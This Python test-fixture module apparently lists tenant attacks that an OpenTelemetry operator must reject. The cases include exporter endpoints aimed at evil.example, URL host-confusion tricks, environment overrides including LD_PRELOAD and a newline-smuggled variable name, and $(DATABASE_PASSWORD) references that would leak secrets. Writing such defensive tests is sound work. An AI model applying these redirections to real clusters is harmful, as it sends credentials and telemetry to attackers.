"""What the tenant tries: profiles and annotations meant to send telemetry or secrets elsewhere."""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

from support.builders.deployments import EXPORTER

if TYPE_CHECKING:
    from support.cluster.kube import Object


class Attempt(NamedTuple):
    """What a tenant tries: the spec of a profile, and annotations of the Deployment that uses it."""

    spec: Object
    annotations: dict[str, str] = {}  # noqa: RUF012 - read only


def to(endpoint: str, **more: object) -> Attempt:
    return Attempt({"exporter": {**EXPORTER, "endpoint": endpoint, **more}})


def variable(name: str, value: str) -> Attempt:
    return Attempt({"env": [{"name": name, "value": value}]})


def annotated(key: str, value: str) -> Attempt:
    return Attempt({"sampler": {"type": "always_on"}}, {key: value})


ATTEMPTS = {
    "another host": to("http://evil.example:4318"),
    "a host that begins alike": to("http://otel-collector.observability.evil.example:4318"),
    "a host that ends alike": to("http://evil-otel-collector.observability:4318"),
    "the host as a user": to("http://otel-collector.observability:4318@evil.example:4318"),
    "the host as a user, encoded": to("http://otel-collector.observability%40evil.example:4318"),
    "the host as a fragment": to("http://evil.example:4318/#otel-collector.observability:4318"),
    "a backslash": to("http://evil.example:4318\\@otel-collector.observability:4318"),
    "a reference": to("http://$(EVIL).evil.example:4318"),
    "another port": to("http://otel-collector.observability:4319"),
    "another scheme": to("https://otel-collector.observability:4318"),
    "endpoint of one signal": variable("OTEL_EXPORTER_OTLP_TRACES_ENDPOINT", "http://evil.example"),
    "endpoint as a variable": variable("OTEL_EXPORTER_OTLP_ENDPOINT", "http://evil.example"),
    "endpoint of another exporter": variable("OTEL_EXPORTER_ZIPKIN_ENDPOINT", "http://evil.example"),
    "certificate": variable("OTEL_EXPORTER_OTLP_CERTIFICATE", "/evil"),
    "headers as a variable": variable("OTEL_EXPORTER_OTLP_TRACES_HEADERS", "evil=1"),
    "configuration file": variable("OTEL_CONFIG_FILE", "/evil"),
    "experimental configuration file": variable("OTEL_EXPERIMENTAL_CONFIG_FILE", "/evil"),
    "an application's secret": variable("OTEL_EVIL", "$(DATABASE_PASSWORD)"),
    "an application's secret, behind a dollar sign": variable("OTEL_EVIL", "$$$(DATABASE_PASSWORD)"),
    "a variable of the loader": variable("LD_PRELOAD", "/evil.so"),
    "a variable behind a line's end": variable("OTEL_X\nLD_PRELOAD", "/evil.so"),
    "headers from another namespace": to(
        EXPORTER["endpoint"], headers={"secretKeyRef": {"namespace": "evil", "name": "x", "key": "y"}}
    ),
    "headers as text": to(EXPORTER["endpoint"], headers="evil=1"),
    "an attribute that is a reference": Attempt({"resource": {"resourceAttributes": {"x": "$(DATABASE_PASSWORD)"}}}),
    "an attribute that is more": Attempt({"resource": {"resourceAttributes": {"x": "1,service.name=evil"}}}),
    "an annotation that is a reference": annotated("resource.opentelemetry.io/x", "$(DATABASE_PASSWORD)"),
    "an annotation that is more": annotated("resource.opentelemetry.io/x", "1,service.name=evil"),
    "a service's name that is a reference": annotated("resource.opentelemetry.io/service.name", "$(DATABASE_PASSWORD)"),
    "an endpoint as an annotation": annotated("spanloom.dev/endpoint", "http://evil.example"),
}
